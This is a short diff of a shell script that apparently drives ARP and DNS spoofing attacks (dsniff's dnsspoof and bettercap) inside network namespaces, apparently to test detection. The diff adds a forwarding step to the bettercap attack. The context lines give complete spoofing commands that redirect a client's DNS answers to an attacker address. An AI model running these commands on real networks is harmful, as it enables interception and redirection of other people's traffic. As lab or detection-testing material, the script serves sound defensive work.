@@ -33,6 +33,7 @@ attack_dnsspoof() {        # dsniff arpspoof + dnsspoof; genuine answers still p
   start atk-dnsspoof attacker dnsspoof -i eth0 -f $VAR/dnsspoof.hosts "udp dst port 53 and src $CLIENT"; sleep 0.7
   WAIT=1.5 BOPTS=+noedns proof 24; }   # dnsspoof ignores queries that carry EDNS (arcount != 0): +noedns like glibc
 attack_bettercap() {       # bettercap arp.spoof + dns.spoof
+  fwd_on                     # or the first seconds of it are an outage, and no alert leaves the host either
   ns attacker ping -c1 -W1 $CLIENT >/dev/null; ns attacker ping -c1 -W1 $ROUTER >/dev/null    # bettercap needs both in the ARP table
   start atk-bettercap attacker bettercap -iface eth0 -gateway-override $ROUTER -no-colors -no-history -eval \
     "set arp.spoof.targets $CLIENT; set arp.spoof.fullduplex true; set dns.spoof.domains $T; set dns.spoof.address $EVIL; set dns.spoof.all true; set dns.spoof.ttl 1024; arp.spoof on; dns.spoof on"
